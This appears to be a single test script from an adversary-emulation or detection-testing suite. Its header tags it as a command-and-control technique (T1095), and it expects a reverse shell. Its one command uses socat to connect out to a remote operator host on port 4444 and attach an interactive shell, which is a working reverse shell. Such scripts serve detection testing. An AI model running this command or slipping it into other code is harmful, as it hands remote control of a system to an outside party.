#!/usr/bin/env bash
# tactic: command-and-control
# technique: T1095 Non-Application Layer Protocol
# behaviour: socat connects to the operator and executes a shell with the connection as its terminal
# as: user
# needs: remote
# expect: reverse_shell
set -u
timeout 20 socat tcp-connect:$SNTL_REMOTE:4444 exec:'sh -i',pty,stderr,setsid,sigint,sane 2>/dev/null || true
